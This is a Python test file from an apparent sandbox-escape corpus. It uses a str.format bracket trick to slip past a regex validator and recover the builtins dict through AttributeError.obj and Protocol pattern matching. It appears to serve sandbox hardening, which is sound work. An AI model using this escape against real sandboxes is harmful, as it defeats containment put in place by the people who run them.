# technique: the runtime check of constant format strings looks for '{...[._]' with a regex that stops at ':' or '!', but str.format skips ':' and '!' inside [...]: '{0[:].__globals__[__builtins__].x}' reads json.dumps.__globals__ and fails on the builtins dict, and AttributeError.obj hands that dict back; .obj (refused by the validator) is read as a field of the Protocol of 140
# source: str.format field grammar (brackets may hold ':' and '!') vs a regex prefilter; AttributeError.obj (Python 3.10+)

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, json, typing

T = typing.TypeVar('T')


@dataclasses.dataclass
class Generic(typing.Generic[T]):
    obj: object
    _is_protocol = True


@typing.runtime_checkable
class Anything(Generic, typing.Protocol):
    pass


def failed_on(e):
    match e:
        case Anything(o):
            return o
    raise LookupError('no match')


def via():
    try:
        '{0[:].__globals__[__builtins__].x}'.format({':': json.dumps})
    except AttributeError as e:
        return failed_on(e)
    raise LookupError('no AttributeError')


def via_globals():
    try:
        '{0[!].__globals__.x}'.format({'!': json.dumps})
    except AttributeError as e:
        return failed_on(e)
    raise LookupError('no AttributeError')

attempt("'{0[:].__globals__[__builtins__].x}'.format -> AttributeError.obj", via)
attempt("'{0[!].__globals__.x}'.format -> AttributeError.obj", via_globals)
